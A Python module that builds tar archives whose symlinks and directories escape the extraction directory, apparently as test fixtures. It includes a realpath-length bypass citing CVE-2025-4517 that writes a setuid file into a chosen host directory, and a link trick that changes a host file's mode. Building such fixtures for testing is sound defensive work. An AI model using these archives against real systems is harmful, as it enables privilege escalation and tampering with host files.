"""Tar archives with members that lead out of the directory that they are unpacked in."""

import io
import tarfile
from collections.abc import Iterable
from pathlib import Path

Member = tuple[tarfile.TarInfo, bytes]


def packed(members: Iterable[Member]) -> bytes:
    """A compressed archive with these members, in this order."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for member, data in members:
            tar.addfile(member, io.BytesIO(data))
    return target.getvalue()


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Member:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member, b""


def directory(name: str, mode: int = 0o755) -> Member:
    member = tarfile.TarInfo(name)
    member.type, member.mode = tarfile.DIRTYPE, mode
    return member, b""


def file(
    name: str, data: bytes = b"", mode: int = 0o644, attributes: dict[str, str] | None = None
) -> Member:
    member = tarfile.TarInfo(name)
    member.mode, member.size = mode, len(data)
    member.pax_headers = {f"SCHILY.xattr.{key}": value for key, value in (attributes or {}).items()}
    return member, data


def beyond_path_max(top: str, victim: Path) -> list[Member]:
    """Links whose expansion is longer than realpath(3) resolves, as in CVE-2025-4517.

    They lead to a directory of the host, in which the last member is a file.
    """
    part, steps, place = "d" * 247, "abcdefghijklmnop", top
    members = []
    for step in steps:
        members += [directory(f"{place}{part}"), link(f"{place}{step}", part)]
        place += f"{part}/"
    long = "/".join(steps) + "/" + "l" * 254
    return [
        *members,
        link(f"{top}{long}", "../" * len(steps)),
        link(f"{top}escape", f"{long}/{'../' * 12}{str(victim).lstrip('/')}"),
        file(f"{top}escape/written", b"x", 0o4755),
    ]


def mode_of_host_file(victim: Path) -> list[Member]:
    """A file of a disk, then a link of its name, which a change of the mode by path follows."""
    return [
        directory("upper"),
        directory("upper/root"),
        file("upper/root/x", b"mine", 0o4777, {"user.mine": "1"}),
        link("upper/root/x", str(victim)),
    ]
